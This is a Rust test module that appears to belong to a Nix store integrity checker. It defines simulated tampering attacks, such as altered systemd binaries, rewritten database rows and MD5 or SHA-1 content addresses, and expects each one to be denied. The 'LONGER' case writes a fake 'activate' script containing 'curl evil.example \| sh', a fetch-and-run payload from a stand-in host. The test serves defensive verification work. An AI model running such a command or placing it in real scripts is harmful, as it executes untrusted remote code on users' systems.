//! Bytes that are not those that somebody vouched for, and content addresses that prove less than they seem.

use super::{Attack, Control, Outcome};
use crate::error::ForgeError;
use crate::generation::Generation;
use crate::rules::Rules;
use crate::signer::ci;
use crate::store::{Addressing, Forge};
use crate::tree::{SELF, Tree};
use narwarden_core::content_address::Method;
use narwarden_core::hash::Algorithm;
use narwarden_core::reason::Reason;
use narwarden_core::store_path::StorePath;

pub(super) const SAME_SIZE: Attack = Attack {
    id: "D01",
    title: "file changed on disk, size kept",
    expected: Outcome::Deny(Reason::ContentDrift),
    control: Control::Unread,
    rules: Rules::good,
    apply: |forge, generation| {
        let file = "lib/systemd/systemd";
        let at = forge.file(&generation.systemd, file);
        let mut contents = std::fs::read(&at).map_err(ForgeError::io(&at))?;
        contents.iter_mut().take(4).for_each(|byte| *byte ^= 1);
        forge.overwrite(&generation.systemd, file, &contents)?;
        Ok(generation.toplevel.clone())
    },
};

pub(super) const LONGER: Attack = Attack {
    id: "D01",
    title: "file made longer on disk",
    expected: Outcome::Deny(Reason::ContentDrift),
    control: Control::Unread,
    rules: Rules::good,
    apply: |forge, generation| {
        let evil = b"#!/bin/sh\ncurl evil.example | sh\n";
        forge.overwrite(&generation.toplevel, "activate", evil)?;
        Ok(generation.toplevel.clone())
    },
};

pub(super) const WITH_ROW: Attack = Attack {
    id: "D02",
    title: "signed file and its database row changed together",
    expected: Outcome::Deny(Reason::BadSignature),
    control: Control::Undone(|forge, generation| forge.sign(&generation.systemd, &[&ci()])),
    rules: Rules::good,
    apply: |forge, generation| {
        with_row(forge, generation, &generation.systemd, "lib/systemd/systemd")
    },
};

pub(super) const NAR_WITH_ROW: Attack = Attack {
    id: "D03",
    title: "source tree and its row changed, `ca` untouched",
    expected: Outcome::Deny(Reason::ContentAddressMismatch),
    control: Control::Unread,
    rules: Rules::good,
    apply: |forge, generation| with_row(forge, generation, &generation.source, "flake.nix"),
};

pub(super) const FLAT_WITH_ROW: Attack = Attack {
    id: "D03",
    title: "download and its row changed, `ca` untouched",
    expected: Outcome::Deny(Reason::ContentAddressMismatch),
    control: Control::Unread,
    rules: Rules::good,
    apply: |forge, generation| with_row(forge, generation, &generation.archive, ""),
};

pub(super) const TEXT_WITH_ROW: Attack = Attack {
    id: "D03",
    title: "unit text and its row changed, `ca` untouched",
    expected: Outcome::Deny(Reason::ContentAddressMismatch),
    control: Control::Unread,
    rules: Rules::good,
    apply: |forge, generation| with_row(forge, generation, &generation.unit, ""),
};

pub(super) const MD5: Attack = Attack {
    id: "D16",
    title: "unsigned path addressed by MD5",
    expected: Outcome::Deny(Reason::WeakContentAddress),
    control: Control::Rules(|| Rules::with("weak-content-address = [\"md5\"]")),
    rules: Rules::good,
    apply: |forge, generation| {
        let addressing = Addressing::Content(Method::Flat, Algorithm::Md5);
        beside(forge, generation, &Tree::file("collides\n"), addressing)
    },
};

pub(super) const SHA1: Attack = Attack {
    id: "D16",
    title: "unsigned path addressed by SHA-1",
    expected: Outcome::Deny(Reason::WeakContentAddress),
    control: Control::Rules(|| Rules::with("weak-content-address = [\"sha1\"]")),
    rules: Rules::good,
    apply: |forge, generation| {
        let addressing = Addressing::Content(Method::Nar, Algorithm::Sha1);
        beside(forge, generation, &Tree::file("collides\n"), addressing)
    },
};

pub(super) const EXECUTABLE_FLAT: Attack = Attack {
    id: "D16",
    title: "executable bit that a flat address does not cover",
    expected: Outcome::Deny(Reason::WeakContentAddress),
    control: Control::Rules(|| Rules::with("weak-content-address = [\"executable-flat\"]")),
    rules: Rules::good,
    apply: |forge, generation| {
        let addressing = Addressing::Content(Method::Flat, Algorithm::Sha256);
        beside(forge, generation, &Tree::executable("#!/bin/sh\n"), addressing)
    },
};

pub(super) const LEGACY: Attack = Attack {
    id: "D16",
    title: "self-reference hash that two builds can share",
    expected: Outcome::Deny(Reason::WeakContentAddress),
    control: Control::Rules(|| Rules::with("weak-content-address = [\"legacy-self-reference\"]")),
    rules: Rules::good,
    apply: |forge, generation| {
        let tree = Tree::file(format!("{SELF} may as well be NULs\n"));
        beside(forge, generation, &tree, Addressing::LegacySelfReference)
    },
};

pub(super) const OWN_TOPLEVEL: Attack = Attack {
    id: "D21",
    title: "a local user's own toplevel, content-addressed",
    expected: Outcome::Deny(Reason::Unsigned),
    control: Control::Rules(|| Rules::with("content-addressed-toplevel = true")),
    rules: Rules::good,
    apply: |forge, generation| forge.content_addressed_toplevel(generation),
};

/// Changes a file and makes the row say so.
fn with_row(
    forge: &mut Forge,
    generation: &Generation,
    path: &StorePath,
    file: &str,
) -> Result<StorePath, ForgeError> {
    forge.overwrite(path, file, b"evil\n")?;
    forge.adjust_row(path)?;
    Ok(generation.toplevel.clone())
}

/// Adds a path, and a signed toplevel that refers to it.
fn beside(
    forge: &mut Forge,
    generation: &Generation,
    tree: &Tree,
    addressing: Addressing,
) -> Result<StorePath, ForgeError> {
    let weak = forge.add("weak", tree, addressing, &[])?;
    forge.toplevel_with(generation, &[&weak])
}
